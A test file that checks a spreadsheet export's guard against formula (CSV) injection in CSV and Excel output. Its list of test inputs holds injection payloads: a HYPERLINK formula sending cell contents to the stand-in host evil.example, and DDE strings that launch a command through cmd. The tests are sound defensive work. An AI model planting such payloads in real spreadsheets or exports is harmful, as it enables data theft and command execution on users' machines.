import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { formulaSafe, writeSheet } from "#app/models/spreadsheet.server.ts";

const dangerous = [
  '=HYPERLINK("http://evil.example?"&A1,"klicka")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
];

describe("spreadsheet exports", () => {
  it.each(dangerous)("neutralise a cell that starts a formula: %j", (value) => {
    expect(formulaSafe(value)).toBe(`'${value}`);
  });

  it("leave plain text and numbers alone", () => {
    expect(formulaSafe("Kalibrera vågen")).toBe("Kalibrera vågen");
    expect(formulaSafe("2026-03-01")).toBe("2026-03-01");
    expect(formulaSafe(-7)).toBe(-7);
    expect(formulaSafe("a=b")).toBe("a=b");
  });

  it("write no formula into a CSV or an Excel file, in headers or cells", async () => {
    const rows = dangerous.map((d, i) => [i, d]);
    const csv = (await writeSheet("Blad", ["#", "=Rubrik"], rows, "csv")).toString("utf8");
    for (const line of csv.split(/\r?\n/).filter(Boolean)) {
      for (const cell of line.replace(/^\ufeff/, "").split(";")) {
        expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await writeSheet("Blad", ["#", "=Rubrik"], rows, "xlsx")) as unknown as ArrayBuffer);
    workbook.worksheets[0]!.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula).toBeUndefined();
        if (typeof cell.value === "string") expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
});
